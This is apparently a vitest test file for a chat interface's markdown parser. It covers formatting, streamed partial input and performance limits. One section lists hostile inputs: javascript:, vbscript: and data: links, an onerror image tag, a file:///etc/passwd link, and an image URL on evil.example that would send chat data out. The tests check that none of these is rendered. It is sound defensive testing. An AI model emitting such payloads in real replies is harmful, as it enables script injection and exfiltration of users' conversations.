import { performance } from 'node:perf_hooks';
import { describe, expect, test } from 'vitest';
import { type Block, parseMarkdown } from '../../src/ui/markdown.ts';
import type { Inline } from '../../src/ui/markdown-inline.ts';

/** What is read, in short: `strong(a)`, `link(https://x)(a)`, lines by `/`. */
const show = (text: string): string => parseMarkdown(text).map(showBlock).join(' ¶ ');
const showInlines = (inlines: readonly Inline[]): string =>
  inlines
    .map((inline) => {
      if (typeof inline === 'string') return inline;
      if (inline.type === 'break') return '/';
      if (inline.type === 'code') return `code(${inline.text})`;
      if (inline.type === 'link') return `link(${inline.href})(${showInlines(inline.children)})`;
      return `${inline.type}(${showInlines(inline.children)})`;
    })
    .join('');
function showBlock(block: Block): string {
  switch (block.type) {
    case 'paragraph':
      return showInlines(block.children);
    case 'code':
      return `pre(${block.text})`;
    case 'quote':
      return `quote(${block.blocks.map(showBlock).join(' ¶ ')})`;
    case 'list':
      return `${block.ordered ? `ol${block.start}` : 'ul'}(${block.items
        .map((item) => item.map(showBlock).join(' ¶ '))
        .join('; ')})`;
    case 'table':
      return `table(${[block.head, ...block.rows].map((row) => row.map(showInlines).join('|')).join('; ')})`;
  }
}

test.each([
  ['**now** and *then*', 'strong(now) and em(then)'],
  ['***both***', 'strong(em(both))'],
  ['~~old~~ `new`', 'del(old) code(new)'],
  ['one\ntwo\n\nthree', 'one/two ¶ three'],
  ['# Title', 'strong(Title)'],
  ['snake_case_word and 2 * 3 * 4', 'snake_case_word and 2 * 3 * 4'],
  ['- a\n- b\n  - c\n- d', 'ul(a; b ¶ ul(c); d)'],
  ['3. a\n4. b', 'ol3(a; b)'],
  ['> said\n> so', 'quote(said/so)'],
  ['| a | b |\n|---|---|\n| 1 | **2** |', 'table(a|b; 1|strong(2))'],
  ['```\n**x**\n```', 'pre(**x**)'],
  ['[shop](https://shop.example/a)', 'link(https://shop.example/a)(shop)'],
  ['see https://shop.example/a.', 'see link(https://shop.example/a)(https://shop.example/a).'],
  ['[write](mailto:a@b.example)', 'link(mailto:a@b.example)(write)'],
  ['\\*plain\\*', '*plain*'],
  ['订单**已发货**。', '订单strong(已发货)。'],
])('reads %j', (text, wanted) => {
  expect(show(text)).toBe(wanted);
});

test.each([
  ['an open strong', 'all **of it'],
  ['an open code', 'all `of it'],
  ['an open link', 'see [the shop](https://shop.exa'],
  ['a lone bracket', 'see [the shop'],
])('leaves %s as text while it is being written', (_what, text) => {
  expect(show(text)).toBe(text);
});

describe('what a model is made to say by others', () => {
  test.each([
    ['[x](javascript:alert(1))'],
    ['[x](java\tscript:alert`1`)'],
    ['[x](JaVaScRiPt:alert`1`)'],
    ['[x](data:text/html,hi)'],
    ['[x](vbscript:x)'],
    ['[x](//evil.example)'],
    ['[x](http://evil.example)'],
    ['[x](file:///etc/passwd)'],
    ['<img src=x onerror=alert(1)>'],
    ['<a href="javascript:alert(1)">x</a>'],
  ])('makes no link of %j', (text) => {
    expect(show(text)).not.toMatch(/link\(/);
  });

  test('names a picture instead of fetching it', () => {
    expect(show('![secret](https://evil.example/p?d=chat)')).toBe('secret');
  });

  test('shows a thousand nested lists and quotes at a depth that fits', () => {
    const list = Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`);
    expect(show(list.join('\n')).match(/ul\(/g)?.length).toBeLessThan(10);
    expect(show('>'.repeat(1000))).toBe('quote()');
  });
});

describe('time', () => {
  const OPENERS = [
    '*',
    '`',
    '[',
    '[a](',
    '_a',
    '**a ',
    '![',
    '~~a ',
    '> ',
    '- ',
    '| ',
    '`a``b',
    '<',
    '\\',
  ];

  test.each(OPENERS)('reads 100 KB of %j in less than 50 ms', (opener) => {
    const text = opener.repeat(Math.ceil(100_000 / opener.length));
    parseMarkdown(text.slice(0, 1000));
    const times = [0, 1, 2, 3, 4].map(() => {
      const started = performance.now();
      parseMarkdown(text);
      return performance.now() - started;
    });
    expect(Math.min(...times)).toBeLessThan(50);
  });

  test.each(OPENERS)('reads a reply of %j fed piece by piece in linear time', (opener) => {
    const text = opener.repeat(Math.ceil(8000 / opener.length));
    const started = performance.now();
    for (let end = 80; end <= text.length; end += 80) parseMarkdown(text.slice(0, end));
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
